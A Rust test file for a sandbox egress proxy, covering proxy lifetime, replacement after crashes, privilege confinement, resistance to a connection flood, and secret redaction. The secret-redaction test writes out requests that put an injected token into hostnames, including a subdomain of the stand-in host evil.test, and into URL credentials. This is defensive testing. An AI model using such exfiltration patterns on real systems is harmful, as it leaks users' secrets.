//! The proxy of a run as a process: who replaces it, what it may do itself, and when it ends.

use std::fs;
use std::path::Path;
use std::time::Instant;

use nix::sys::signal::{self, Signal};
use nix::unistd::Pid;
use orch_sandbox::Secrets;
use orch_sandbox::egress::{EgressRecord, Verdict};
use orch_sandbox::exit_record::Outcome;
use orch_sandbox::log::{ControlEvent, Record};
use orch_sandbox::spec::{Phase, SecretDelivery, SecretSpec};

use crate::bench::{PROBE_INSIDE, WAIT, sh};
use crate::egress::{PROXY, Transparent, World, egress, policy};

/// N24: connections end with the run, and so does the proxy.
#[test]
fn n24_nothing_stays_open_after_the_end() {
    let Some(world) = World::new() else { return };
    let connect = r">CONNECT good.test:2222 HTTP/1.1\r\n\r\n";
    let mut run = world.run("kept", &[&[PROXY, connect, "<welcome", "<never"]]);
    run.spec.steps[0].timeout_ms = 1000;
    let shim = world.bench.start(&run).pid;
    let proxy = Path::new("/proc").join(new_proxy(shim, None).to_string());
    let record = run.wait();
    assert_eq!(record.outcome, Outcome::TimedOut { step: Some("talk".to_owned()) });
    let records = egress(&run);
    assert!(records.iter().any(|record| matches!(record.verdict, Verdict::Allowed { .. })), "{records:?}");
    // It dies with the shim, which writes the record before it ends.
    let deadline = Instant::now() + WAIT;
    while proxy.exists() {
        assert!(Instant::now() < deadline, "the proxy outlives its run");
        std::thread::yield_now();
    }
}

/// The proxies of the run that has this shim: children of the keeper, which is its child in the host's pid namespace.
fn proxies(shim: i32) -> Vec<i32> {
    let children = |parent: i32| {
        let pids = fs::read_dir("/proc").unwrap();
        let pids = pids.filter_map(|entry| entry.unwrap().file_name().to_str()?.parse::<i32>().ok());
        pids.filter(move |pid| {
            let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).map(str::trim);
            let in_one_namespace = field("NSpid:").is_some_and(|pids| pids.split_whitespace().count() == 1);
            let lives = field("State:").is_some_and(|state| !state.starts_with('Z'));
            field("PPid:") == Some(&parent.to_string()) && in_one_namespace && lives
        })
    };
    children(shim).flat_map(children).collect()
}

/// Waits for a proxy that is not `old`.
fn new_proxy(shim: i32, old: Option<i32>) -> i32 {
    let deadline = Instant::now() + WAIT;
    loop {
        match proxies(shim).as_slice() {
            [pid] if Some(*pid) != old => return *pid,
            found => assert!(Instant::now() < deadline, "no new proxy: {found:?}"),
        }
        std::thread::yield_now();
    }
}

fn kill(pid: i32) {
    signal::kill(Pid::from_raw(pid), Signal::SIGKILL).unwrap();
}

/// N15: a proxy that dies has a successor, which serves who waits; one that dies again and again has none, and then
/// everything is refused.
#[test]
fn n15_a_dead_proxy_is_replaced_until_it_is_not() {
    let Some(world) = World::new() else { return };
    let ask = format!("{PROBE_INSIDE} talk {PROXY} '>GET http://good.test:8080/ HTTP/1.1\\r\\n\\r\\n' '<200 OK'");
    let script = format!(
        "exec 3>pipe; {ask} || exit 1; echo served >&3; read line < go; {ask} || exit 2; echo served >&3; read line < go; \
         {PROBE_INSIDE} talk {PROXY} '!' || exit 3"
    );
    let mut run = world.bench.run("dying", vec![sh("main", Phase::Main, &script)]);
    run.spec.egress = policy(Transparent::No);
    let (mut gate, mut pipe) = (run.gate(), run.pipe());
    let shim = world.bench.start(&run).pid;
    pipe.line();
    let first = new_proxy(shim, None);
    kill(first);
    // The second request may wait for the successor, but it is served.
    gate.open("");
    pipe.line();
    let mut last = new_proxy(shim, Some(first));
    for _ in 0..4 {
        kill(last);
        last = new_proxy(shim, Some(last));
    }
    kill(last);
    let refused = ControlEvent::EgressProxyEnded { replaced: false };
    let deadline = Instant::now() + WAIT;
    while !run.records().iter().any(|record| record.control().as_ref() == Some(&refused)) {
        assert!(Instant::now() < deadline, "the proxy was replaced again");
        std::thread::yield_now();
    }
    gate.open("");
    let record = run.wait();
    assert_eq!(record.outcome, Outcome::Succeeded, "{}", run.stderr());
    let events: Vec<_> = run.records().iter().filter_map(Record::control).collect();
    let ends = |replaced| events.iter().filter(|event| **event == ControlEvent::EgressProxyEnded { replaced }).count();
    assert_eq!((ends(true), ends(false)), (5, 1));
}

/// The proxy keeps nothing that it does not need, whoever started it.
#[test]
fn a_proxy_is_confined_itself() {
    let Some(world) = World::new() else { return };
    let mut run = world.bench.run("hold", vec![sh("hold", Phase::Main, "exec 3>pipe; echo ready >&3; read line < go")]);
    run.spec.egress = policy(Transparent::No);
    let (mut gate, mut pipe) = (run.gate(), run.pipe());
    let shim = world.bench.start(&run).pid;
    pipe.line();
    let status = fs::read_to_string(format!("/proc/{}/status", new_proxy(shim, None))).unwrap();
    for line in ["NoNewPrivs:\t1", "Seccomp:\t2", "CapPrm:\t0000000000000000", "CapEff:\t0000000000000000"] {
        assert!(status.contains(line), "{line}: {status}");
    }
    gate.open("");
    assert_eq!(run.wait().outcome, Outcome::Succeeded);
}

/// N23: connections that never become requests keep the proxy of one run busy and small, and no other run waits.
#[test]
fn n23_a_flood_hurts_nobody_else() {
    let Some(world) = World::new() else { return };
    let script = format!("exec 3>pipe; {PROBE_INSIDE} flood {PROXY} 400 & read line < go; kill %1; true");
    let mut run = world.bench.run("flood", vec![sh("flood", Phase::Main, &script.replace(" & ", " >&3 & "))]);
    run.spec.egress = policy(Transparent::No);
    run.spec.limits.open_files = 1024;
    let (mut gate, mut pipe) = (run.gate(), run.pipe());
    let shim = world.bench.start(&run).pid;
    pipe.line();
    let other = world.run("served", &[&[PROXY, r">GET http://good.test:8080/ HTTP/1.1\r\n\r\n", "<200 OK"]]);
    world.finish(&other);
    let proxy = new_proxy(shim, None);
    let status = fs::read_to_string(format!("/proc/{proxy}/status")).unwrap();
    let field = |name: &str| {
        let value = status.lines().find_map(|line| line.strip_prefix(name)?.split_whitespace().next()).unwrap();
        value.parse::<u64>().unwrap()
    };
    assert!(field("Threads:") <= 258, "{status}");
    assert!(field("VmRSS:") < 64 << 10, "{status}");
    gate.open("");
    assert_eq!(run.wait().outcome, Outcome::Succeeded, "{}", run.stderr());
}

/// S3: what a run asks for can be a secret, by accident or not; the log that everybody may read does not say it.
#[test]
fn s3_what_is_asked_for_tells_no_secret() {
    const TOKEN: &str = "Tok3nOfThe-Run.42";
    let Some(world) = World::new() else { return };
    let talk = |request: &str| {
        format!("{PROBE_INSIDE} talk {PROXY} \">{request} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\" '=end' || exit 1; ")
    };
    let script = [
        talk("CONNECT $TOKEN:443"),
        talk("CONNECT $(echo $TOKEN | tr A-Z a-z).evil.test:443"),
        talk("GET http://user:$TOKEN@good.test:8080/"),
        talk("CONNECT evil.test:443"),
    ];
    let mut run = world.bench.run("asks", vec![sh("main", Phase::Main, &script.concat())]);
    run.spec.egress = policy(Transparent::No);
    run.spec.secrets = vec![SecretSpec { name: "token".into(), delivery: SecretDelivery::Env("TOKEN".into()) }];
    let mut secrets = Secrets::new();
    secrets.insert("token", TOKEN.into()).unwrap();
    world.bench.start_with(&run, &secrets);
    let record = run.wait();
    assert_eq!(record.outcome, Outcome::Succeeded, "{}", run.stderr());
    let records = egress(&run);
    let asked = |host: &str| records.iter().any(|record| record.host.as_ref().is_some_and(|one| one.as_str() == host));
    assert!(asked("[secret token]") && asked("evil.test"), "{records:?}");
    assert!(records.iter().filter(|record| record.host.is_some()).count() >= 4, "{records:?}");
    let told = |record: &EgressRecord| format!("{record}").to_ascii_lowercase().contains(&TOKEN.to_ascii_lowercase());
    assert!(!records.iter().any(told), "{records:?}");
    // As it was written, it is in nothing that stays.
    let log = fs::read(orch_sandbox::run_dir::log_path(&run.dir)).unwrap();
    assert!(!log.windows(TOKEN.len()).any(|window| window == TOKEN.as_bytes()));
}
